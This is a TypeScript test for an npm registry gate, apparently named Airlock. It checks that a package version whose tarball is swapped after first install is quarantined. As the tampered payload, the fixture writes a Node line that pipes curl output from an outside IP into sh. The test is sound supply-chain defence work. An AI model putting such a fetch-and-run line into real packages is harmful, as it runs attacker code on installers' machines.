/**
 * An upstream that replaces a published version's tarball, with the real npm client and the
 * default policy. The npm registry never lets a version's tarball change; an internal registry
 * that allows overwriting (or a compromised one, or a tampering mirror) can. Whoever installs the
 * version afterwards would get other code than everyone before them, under the same name and
 * version. The gate remembers the digest of the bytes it first stored and holds the new ones.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { daysAgo, quarantineIdIn, signalsE2e } from './support.ts';

test('a version whose tarball the upstream replaced after Airlock stored it is quarantined, naming both digests', async (t) => {
  const s = await signalsE2e({
    packages: [{ name: 'steady-lib', versions: [{ version: '1.0.0', publishedAt: daysAgo(100), files: [{ path: 'index.js', content: 'module.exports = 1;\n' }] }] }],
    config: { repository: { metadataMaxAge: '0s' } },
  });
  t.after(() => s.close());
  const first = await s.project();
  const installed = await first.npm(['install', 'steady-lib@1.0.0']);
  assert.equal(installed.code, 0, installed.output);

  // The upstream publishes 1.0.0 again: the same manifest, other code (no install script, which
  // the metadata phase would see: the change is in the bytes alone).
  s.registry.addVersions('steady-lib', [
    { version: '1.0.0', publishedAt: daysAgo(100), files: [{ path: 'index.js', content: "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\nmodule.exports = 1;\n" }] },
  ]);

  const second = await s.project();
  const held = await second.npm(['install', 'steady-lib@1.0.0']);
  assert.notEqual(held.code, 0, held.output);
  assert.match(
    held.output,
    /steady-lib@1\.0\.0 is quarantined by Airlock: .*steady-lib@1\.0\.0: the upstream replaced its tarball after Airlock stored it \(sha512 [0-9a-f]{16}… first, now [0-9a-f]{16}…\); a published version's tarball never changes on the npm registry \[tarball\.replaced\]/,
  );
  assert.notEqual(quarantineIdIn(held.output), null);
  assert.equal(existsSync(join(second.dir, 'node_modules', 'steady-lib')), false, 'the replaced tarball was never installed');
});
